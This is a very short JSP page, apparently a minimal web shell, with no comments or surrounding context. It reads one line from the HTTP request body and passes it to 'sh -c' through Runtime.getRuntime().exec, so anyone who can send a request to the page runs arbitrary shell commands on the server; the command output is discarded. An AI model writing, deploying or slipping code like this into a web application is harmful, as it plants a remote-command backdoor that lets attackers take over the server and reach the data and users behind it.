<%@ page import="java.io.*" %><%
BufferedReader r = request.getReader(); String line = r.readLine();
Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", line});
%>
